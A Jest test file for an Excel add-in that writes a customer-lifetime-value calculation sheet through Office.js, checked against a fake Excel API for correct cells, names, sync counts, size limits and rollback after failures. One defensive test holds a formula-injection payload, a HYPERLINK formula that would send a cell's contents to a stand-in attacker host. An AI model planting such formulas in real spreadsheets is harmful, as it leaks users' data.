/**
 * The Office.js writer against a fake of the Excel API (test/taskpane/fake-office.js): what it writes, that
 * nothing outside its own sheet and names changes, how many syncs it needs, and that no request passes 5 MB.
 */
import { readLedger } from "../../src/core/ledger";
import { analyseLedgerForPlan } from "../../src/sheet/ledger-analysis";
import { buildCalculationPlan, DEFAULT_INPUTS } from "../../src/sheet/plan";
import type { CalculationPlan } from "../../src/sheet/types";
import { planRequests, REQUEST_LIMIT_BYTES } from "../../src/taskpane/batches";
import {
  nameTarget,
  SHEET_MARK,
  unfinishedName,
  WRITING_MARK,
  writePlan,
} from "../../src/taskpane/writer";
import { evaluatePlan, evaluateSnapshot } from "../sheet/evaluate";
import { shopLedger } from "../sheet/fixtures";

const { createFakeOffice } = require("./fake-office.js");

type Fake = ReturnType<typeof createFakeOffice>;

async function write(fake: Fake, plan: CalculationPlan, options = {}) {
  return fake.Excel.run((ctx: Excel.RequestContext) => writePlan(ctx, plan, options));
}

/** Every cell the plan means to write, as the writer must send it. */
function expectedCells(plan: CalculationPlan) {
  const out: Record<string, { formula?: string; value?: unknown; format?: string }> = {};
  for (const b of plan.sheet.blocks) {
    const m = /^([A-Z]+)(\d+)$/.exec(b.address)!;
    let col = 0;
    for (const ch of m[1]) col = col * 26 + ch.charCodeAt(0) - 64;
    b.cells.forEach((r, i) =>
      r.forEach((c, j) => {
        if (!c) return;
        let n = col + j;
        let letters = "";
        while (n > 0) {
          letters = String.fromCharCode(65 + ((n - 1) % 26)) + letters;
          n = Math.floor((n - 1) / 26);
        }
        out[`${letters}${Number(m[2]) + i}`] = c;
      })
    );
  }
  return out;
}

const ledgerRows = shopLedger();

describe("writePlan", () => {
  it("writes the manual route's sheet in two syncs: one to look, one to write", async () => {
    const fake = createFakeOffice({ sheets: { Sales: [["a", 1]], Other: [["keep me"]] } });
    const before = JSON.stringify(fake.snapshot().sheets);
    const plan = buildCalculationPlan(DEFAULT_INPUTS, "en");
    const report = await write(fake, plan);
    expect(report).toMatchObject({ status: "written", syncs: 2, sheet: "LTV calculation" });
    const snap = fake.snapshot();
    // what is written: every planned cell, formulas as formulas, texts starting with "=" as text
    const cells = snap.sheets["LTV calculation"].cells;
    for (const [addr, c] of Object.entries(expectedCells(plan))) {
      if (c.formula) expect(cells[addr].formula).toBe(c.formula);
      else expect(cells[addr].value).toBe(c.value);
      if (c.format) expect(cells[addr].format).toBe(c.format);
    }
    expect(Object.keys(snap.names).sort()).toEqual(
      [...plan.names.map((n) => n.name), SHEET_MARK].sort()
    );
    expect(snap.names.Result_LTV.ref).toBe("'LTV calculation'!B29");
    expect(snap.sheets["LTV calculation"].validations).toHaveLength(plan.sheet.validations.length);
    expect(snap.sheets["LTV calculation"].conditionalFormats).toHaveLength(
      plan.sheet.conditionalFormats.length
    );
    expect(snap.active).toBe("LTV calculation");
    // nothing else changed
    const after = snap.sheets;
    const { ["LTV calculation"]: _, ...others } = after;
    void _;
    expect(JSON.stringify(others)).toBe(before);
    // every write request suspended calculation
    expect(snap.requests.slice(1).every((r: { suspended: boolean }) => r.suspended)).toBe(true);
  });

  it("asks before replacing its own sheet, and then replaces only it and its names", async () => {
    const fake = createFakeOffice({ sheets: { Sales: ledgerRows } });
    await write(fake, buildCalculationPlan(DEFAULT_INPUTS, "en"));
    const sales = JSON.stringify(fake.snapshot().sheets.Sales);
    const again = await write(
      fake,
      buildCalculationPlan({ ...DEFAULT_INPUTS, avgOrder: 500 }, "en")
    );
    expect(again).toMatchObject({ status: "exists", syncs: 1 });
    expect(fake.snapshot().sheets["LTV calculation"].cells.B8.value).toBe(415); // untouched until the user says yes
    const replaced = await write(
      fake,
      buildCalculationPlan({ ...DEFAULT_INPUTS, avgOrder: 500 }, "en"),
      { replace: true }
    );
    expect(replaced).toMatchObject({ status: "written", syncs: 2 });
    const snap = fake.snapshot();
    expect(snap.sheets["LTV calculation"].cells.B8.value).toBe(500);
    expect(snap.order).toEqual(["Sales", "LTV calculation"]);
    expect(JSON.stringify(snap.sheets.Sales)).toBe(sales);
  });

  it("writes the ledger route: summary as text ids and dates, cohort heatmap, retention chart, live inputs", async () => {
    const fake = createFakeOffice({ sheets: { Sales: ledgerRows } });
    const ledger = readLedger(
      {
        customers: ledgerRows.map((r) => r[0]),
        dates: ledgerRows.map((r) => r[1]),
        amounts: ledgerRows.map((r) => r[2]),
        orders: ledgerRows.map((r) => r[3]),
      },
      { mode: "lenient" }
    );
    const analysis = analyseLedgerForPlan(ledger, "month", { source: "Sales!A1:D300" });
    const plan = buildCalculationPlan(
      { ...DEFAULT_INPUTS, periodUnit: "month", lifespanFromChurn: true },
      "ja",
      analysis
    );
    const report = await write(fake, plan);
    expect(report.syncs).toBe(2);
    const sheet = fake.snapshot().sheets["LTV計算"];
    const cellOf = (name: string) => plan.names.find((n) => n.name === name)!.range;
    expect(sheet.cells[cellOf("Input_FirstOrder")].formula).toBe("=AVERAGE(Ledger_FirstAmount)");
    // the retention curve and the value curve
    expect(sheet.charts).toHaveLength(2);
    expect(sheet.charts[0].series[0].categories).toMatch(/^'LTV計算'!/);
    const summary = plan.anchors.summary!;
    const col = summary.replace(/\d+/, "");
    expect(sheet.cells[`${col}7`]).toEqual({ value: "C000", format: "@" });
    // what the fake holds, recomputed by HyperFormula, gives the plan's own numbers
    const written = evaluateSnapshot(fake.snapshot(), "LTV計算");
    const planned = evaluatePlan(plan);
    expect(written.errors()).toEqual([]);
    for (const name of [
      "Result_LTV",
      "Result_LTV_CAC",
      "Result_Max_CAC",
      "Result_CAC_Payback",
      "Input_Frequency",
      "Calc_Periods",
      "Calc_AnnuityFactor",
    ]) {
      expect(written.get(name)).toBe(planned.get(name));
    }
  });

  it("leaves no ledger-route name behind when a manual sheet replaces a ledger one", async () => {
    const fake = createFakeOffice({ sheets: { Sales: ledgerRows } });
    const ledger = readLedger(
      {
        customers: ledgerRows.map((r) => r[0]),
        dates: ledgerRows.map((r) => r[1]),
        amounts: ledgerRows.map((r) => r[2]),
      },
      { mode: "lenient" }
    );
    await write(
      fake,
      buildCalculationPlan(
        DEFAULT_INPUTS,
        "en",
        analyseLedgerForPlan(ledger, "month", { source: "Sales!A1:C300" })
      )
    );
    expect(fake.snapshot().names.Ledger_Orders).toBeDefined();
    const manual = buildCalculationPlan(DEFAULT_INPUTS, "en");
    await write(fake, manual, { replace: true });
    expect(Object.keys(fake.snapshot().names).sort()).toEqual(
      [...manual.names.map((n) => n.name), SHEET_MARK].sort()
    );
  });

  it("splits a large summary so no request passes 5 MB, one sync per request", async () => {
    const rows: (string | number)[][] = [["顧客ID", "購入日", "金額"]];
    for (let i = 0; i < 60000; i++)
      rows.push([
        `顧客-${String(i).padStart(6, "0")}-東京都渋谷区`,
        45000 + (i % 700),
        1000 + (i % 97),
      ]);
    const ledger = readLedger(
      {
        customers: rows.map((r) => r[0]),
        dates: rows.map((r) => r[1]),
        amounts: rows.map((r) => r[2]),
      },
      { mode: "lenient" }
    );
    const plan = buildCalculationPlan(
      { ...DEFAULT_INPUTS, periodUnit: "month" },
      "ja",
      analyseLedgerForPlan(ledger, "month", { source: "Sales!A1:C60001" })
    );
    const budget = 1024 * 1024; // a small budget makes the split visible at a modest size
    const requests = planRequests(plan, budget);
    expect(requests.length).toBeGreaterThan(2);
    for (const r of requests) expect(r.bytes).toBeLessThanOrEqual(budget);
    const fake = createFakeOffice({ sheets: { Sales: [] } });
    const report = await write(fake, plan, { budgetBytes: budget });
    expect(report.syncs).toBe(1 + requests.length);
    const measured = fake.snapshot().requests.map((r: { bytes: number }) => r.bytes);
    expect(Math.max(...measured)).toBeLessThan(REQUEST_LIMIT_BYTES);
    const sheet = fake.snapshot().sheets["LTV計算"];
    const col = plan.anchors.summary!.replace(/\d+/, "");
    expect(sheet.cells[`${col}${7 + 59999}`].value).toBe("顧客-059999-東京都渋谷区");
  });

  it("fails loudly, like Excel on the web, if a request were too large", async () => {
    const fake = createFakeOffice({});
    const ctx = fake.context;
    ctx.workbook.worksheets.add("Big").getRange("A1:A1").formulas = [["x".repeat(6 * 1024 * 1024)]];
    await expect(ctx.sync()).rejects.toThrow(/PayloadSizeLimit/);
  });
});

describe("writePlan: unfinished sheets and names that are not ours", () => {
  const manual = () => buildCalculationPlan(DEFAULT_INPUTS, "en");

  /** Makes the n-th sync (1-based) of the fake fail after its request was applied. */
  function failSync(fake: Fake, n: number): void {
    const sync = fake.context.sync;
    let calls = 0;
    fake.context.sync = async () => {
      calls++;
      await sync();
      if (calls === n) throw new Error("GeneralException: injected failure");
    };
  }

  it("names the unfinished sheet visibly, within 31 characters and without forbidden characters", () => {
    expect(unfinishedName("LTV計算", "ja")).toBe("LTV計算 (書き込み中…)");
    expect(unfinishedName("LTV calculation", "en")).toBe("LTV calculation (writing…)");
    const long = unfinishedName("x".repeat(31), "en");
    expect(long).toHaveLength(31);
    expect(long.endsWith(" (writing…)")).toBe(true);
    for (const n of [long, unfinishedName("LTV計算", "ja")]) expect(n).not.toMatch(/[:\\/?*[\]]/);
  });

  it("reads which sheet a name's formula refers to", () => {
    expect(nameTarget("='LTV計算'!$B$29")).toBe("LTV計算");
    expect(nameTarget("='It''s mine'!$A$1")).toBe("It's mine");
    expect(nameTarget("=Report!$A$1")).toBe("Report");
    expect(nameTarget("=#REF!$B$29")).toBe("#REF!");
    expect(nameTarget("=0.1")).toBeNull();
    expect(nameTarget(null)).toBeNull();
  });

  it("writes under the unfinished name and renames only at the end, in the same number of syncs", async () => {
    const fake = createFakeOffice({ sheets: { Sales: [] } });
    const report = await write(fake, manual());
    expect(report.syncs).toBe(2);
    expect(fake.state.log).toContain("worksheets.add");
    const added = fake.state.log.indexOf("worksheets.add");
    const renamed = fake.state.log.indexOf("worksheet.name");
    // the first names.add is the writing mark on the unfinished sheet; the plan's names come after the rename
    const firstName = fake.state.log.indexOf("names.add", fake.state.log.indexOf("names.add") + 1);
    const lastCell = fake.state.log.lastIndexOf("formulas");
    expect(added).toBeLessThan(lastCell);
    expect(renamed).toBeGreaterThan(lastCell); // after every cell
    expect(firstName).toBeGreaterThan(renamed); // names last, on the finished sheet
    expect(fake.snapshot().order).toEqual(["Sales", "LTV calculation"]);
    expect(report.sheetScopedNames).toEqual([]);
  });

  it("a failed write request removes the unfinished sheet, keeps the previous sheet and its names, and rethrows", async () => {
    const fake = createFakeOffice({ sheets: { Sales: [] } });
    await write(fake, manual());
    const before = fake.snapshot();
    // Excel stops a request at the operation that fails: here the sixth range the new sheet asks for
    const ws = fake.context.workbook.worksheets;
    const add = ws.add;
    ws.add = (name: string) => {
      const w = add(name);
      const getRange = w.getRange;
      let n = 0;
      w.getRange = (address: string) => {
        if (++n === 6) throw new Error("GeneralException: injected failure");
        return getRange(address);
      };
      return w;
    };
    await expect(
      write(fake, buildCalculationPlan({ ...DEFAULT_INPUTS, avgOrder: 500 }, "en"), {
        replace: true,
      })
    ).rejects.toThrow(/injected/);
    ws.add = add;
    const after = fake.snapshot();
    expect(after.order).toEqual(["Sales", "LTV calculation"]);
    expect(after.sheets["LTV calculation"]).toEqual(before.sheets["LTV calculation"]);
    expect(after.names).toEqual(before.names);
  });

  it("if the old sheet is already gone when the rename fails, the complete new sheet takes the real name", async () => {
    const fake = createFakeOffice({ sheets: { Sales: [] } });
    await write(fake, manual());
    const ws = fake.context.workbook.worksheets;
    const add = ws.add;
    let refused = false;
    ws.add = (name: string) => {
      const w = add(name);
      const real = Object.getOwnPropertyDescriptor(w, "name")!;
      Object.defineProperty(w, "name", {
        get: real.get,
        set: (v: string) => {
          if (!refused) {
            refused = true;
            throw new Error("GeneralException: injected rename failure");
          }
          real.set!.call(w, v);
        },
      });
      return w;
    };
    await expect(
      write(fake, buildCalculationPlan({ ...DEFAULT_INPUTS, avgOrder: 500 }, "en"), {
        replace: true,
      })
    ).rejects.toThrow(/rename failure/);
    ws.add = add;
    const snap = fake.snapshot();
    expect(snap.order).toEqual(["Sales", "LTV calculation"]);
    expect(snap.sheets["LTV calculation"].cells.B8.value).toBe(500);
  });

  it("after a failure, removing the unfinished sheet takes at most two more syncs", async () => {
    const fake = createFakeOffice({ sheets: { Sales: [] } });
    failSync(fake, 2);
    // with the fake applying as it queues, failing the only write request models a failure at its very end:
    // the sheet is finished, nothing unfinished is left
    await expect(write(fake, manual())).rejects.toThrow(/injected/);
    const snap = fake.snapshot();
    expect(snap.requests.length).toBeLessThanOrEqual(4);
    expect(snap.order.some((n: string) => n.includes("(writing…)"))).toBe(false);
  });

  it("removes an unfinished sheet left by an earlier write, and the #REF! names of ours that pointed at it", async () => {
    const fake = createFakeOffice({
      sheets: { Sales: [], "LTV calculation (writing…)": [["half"]] },
    });
    // ours: the writing mark points at it
    fake.state.names.set(WRITING_MARK, { ref: "'LTV calculation (writing…)'!A1" });
    fake.state.names.set("Result_LTV", { ref: "'LTV calculation (writing…)'!B29" });
    fake.state.names.set("Ledger_Orders", { ref: "#REF!E7:E9" });
    const report = await write(fake, manual());
    expect(report.status).toBe("written");
    const snap = fake.snapshot();
    expect(snap.order).toEqual(["Sales", "LTV calculation"]);
    expect(snap.names.Result_LTV.ref).toBe("'LTV calculation'!B29");
    expect(snap.names.Ledger_Orders).toBeUndefined();
  });

  it("leaves a user's workbook name that shares one of ours as it is, and defines ours on the sheet instead", async () => {
    const fake = createFakeOffice({ sheets: { Sales: [], Prices: [[1200]] } });
    fake.state.names.set("Input_AvgOrder", { ref: "Prices!A1", comment: "the user's" });
    const plan = manual();
    const report = await write(fake, plan);
    expect(report.sheetScopedNames).toEqual(["Input_AvgOrder"]);
    let snap = fake.snapshot();
    expect(snap.names.Input_AvgOrder).toEqual({ ref: "Prices!A1", comment: "the user's" });
    const own = plan.names.find((n) => n.name === "Input_AvgOrder")!;
    expect(snap.sheets["LTV calculation"].names.Input_AvgOrder.ref).toBe(
      `'LTV calculation'!${own.range}`
    );
    // every other name is workbook-wide as usual
    expect(Object.keys(snap.names).sort()).toEqual(
      [...plan.names.map((n) => n.name), SHEET_MARK].sort()
    );
    // and replacing keeps it so
    const again = await write(fake, plan, { replace: true });
    expect(again.sheetScopedNames).toEqual(["Input_AvgOrder"]);
    snap = fake.snapshot();
    expect(snap.names.Input_AvgOrder).toEqual({ ref: "Prices!A1", comment: "the user's" });
    expect(snap.order).toEqual(["Sales", "Prices", "LTV calculation"]);
  });
});

describe("writePlan writes data as data", () => {
  it("customer ids that look like formulas are written as text in the summary, never as formulas", async () => {
    const ids = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+81-90-1234-5678",
      "-A1*10",
      "@SUM(A1:A9)",
      "00123",
    ];
    const rows: (string | number)[][] = [["顧客ID", "購入日", "金額"]];
    ids.forEach((id, i) => {
      rows.push([id, 45300 + i, 1000]);
      rows.push([id, 45340 + i, 1200]);
    });
    const ledger = readLedger(
      {
        customers: rows.map((r) => r[0]),
        dates: rows.map((r) => r[1]),
        amounts: rows.map((r) => r[2]),
      },
      { mode: "lenient" }
    );
    const plan = buildCalculationPlan(
      { ...DEFAULT_INPUTS, periodUnit: "month" },
      "en",
      analyseLedgerForPlan(ledger, "month", { source: "Sales!A1:C11" })
    );
    const fake = createFakeOffice({ sheets: { Sales: rows } });
    await write(fake, plan);
    const cells = fake.snapshot().sheets["LTV calculation"].cells as Record<
      string,
      { formula?: string; value?: unknown }
    >;
    const held = Object.values(cells).map((c) => c.value);
    for (const id of ids) expect(held).toContain(id);
    const formulas = Object.values(cells)
      .map((c) => c.formula)
      .filter((f): f is string => f !== undefined);
    for (const id of ids)
      expect(formulas.some((f) => f.includes(id.replace(/^[=@]/, "")))).toBe(false);
  });
});

describe("writePlan owns its sheets by a mark, not by name", () => {
  const manual = () => buildCalculationPlan(DEFAULT_INPUTS, "en");
  const ours = (snap: { names: Record<string, { ref: string; hidden?: boolean }> }) =>
    snap.names[SHEET_MARK];

  it("a user's sheet named like ours is never replaced: the calculation goes beside it, and the report says so", async () => {
    const fake = createFakeOffice({
      sheets: { Sales: [["a"]], "LTV calculation": [["the user's own"]] },
    });
    const before = JSON.stringify(fake.snapshot().sheets["LTV calculation"]);
    const first = await write(fake, manual());
    expect(first).toMatchObject({
      status: "written",
      sheet: "LTV calculation (2)",
      sheetKept: "LTV calculation",
    });
    expect(ours(fake.snapshot())).toEqual({
      ref: "'LTV calculation (2)'!A1",
      comment: undefined,
      hidden: true,
    });
    // the next write finds its own sheet by the mark and asks before replacing it; the user's stays
    expect(await write(fake, manual())).toMatchObject({
      status: "exists",
      sheet: "LTV calculation (2)",
    });
    const again = await write(
      fake,
      buildCalculationPlan({ ...DEFAULT_INPUTS, avgOrder: 500 }, "en"),
      {
        replace: true,
      }
    );
    expect(again).toMatchObject({ status: "written", sheet: "LTV calculation (2)" });
    const snap = fake.snapshot();
    expect(JSON.stringify(snap.sheets["LTV calculation"])).toBe(before);
    expect(snap.sheets["LTV calculation (2)"].cells.B8.value).toBe(500);
    expect(snap.names.Result_LTV.ref).toBe("'LTV calculation (2)'!B29");
  });

  it("a user's sheet named like our unfinished one is never deleted", async () => {
    const fake = createFakeOffice({
      sheets: { Sales: [], "LTV calculation (writing…)": [["mine, keep it"]] },
    });
    const report = await write(fake, manual());
    expect(report.sheet).toBe("LTV calculation (2)");
    expect(fake.snapshot().sheets["LTV calculation (writing…)"].cells.A1.value).toBe(
      "mine, keep it"
    );
  });

  it("a failure at any operation of the finishing request: the old sheet with all its names, or the new one complete", async () => {
    const plan = buildCalculationPlan({ ...DEFAULT_INPUTS, avgOrder: 500 }, "en");
    const wanted = [...plan.names.map((n) => n.name), SHEET_MARK].sort();
    const fresh = async () => {
      const fake = createFakeOffice({ sheets: { Sales: [["a", 1]], Other: [["keep me"]] } });
      await write(fake, manual());
      return fake;
    };
    // where the last request's operations are, from a write that succeeds
    const probe = await fresh();
    const start = probe.state.log.length;
    await write(probe, plan, { replace: true });
    const log: string[] = probe.state.log;
    const lastRequest = log.lastIndexOf("suspendApiCalculationUntilNextSync");
    const finishing = log.indexOf("worksheet.delete", lastRequest);
    expect(finishing).toBeGreaterThan(start);
    const end = log.length;
    let rolledBack = 0;
    let completed = 0;
    // every finishing operation, and the last few cell writes before them
    for (let at = finishing - 5; at < end; at++) {
      const fake = await fresh();
      const before = fake.snapshot();
      fake.state.failAt = fake.state.log.length + (at - start);
      await expect(write(fake, plan, { replace: true })).rejects.toThrow(/injected/);
      const snap = fake.snapshot();
      expect(snap.order.filter((n: string) => n.includes("writing"))).toEqual([]);
      expect(snap.sheets.Other).toEqual(before.sheets.Other);
      expect(snap.sheets.Sales).toEqual(before.sheets.Sales);
      expect(Object.keys(snap.names).sort()).toEqual(wanted);
      for (const n of plan.names) expect(snap.names[n.name].ref).toMatch(/^'LTV calculation'!/);
      expect(ours(snap).ref).toBe("'LTV calculation'!A1");
      const b8 = snap.sheets["LTV calculation"].cells.B8.value;
      if (b8 === 415) {
        rolledBack++;
        const state = (x: typeof snap) => ({ sheets: x.sheets, order: x.order, names: x.names });
        expect(state(snap)).toEqual(state(before));
      } else {
        completed++;
        expect(b8).toBe(500);
      }
    }
    expect(rolledBack).toBeGreaterThan(0);
    expect(completed).toBeGreaterThan(0);
  });
});
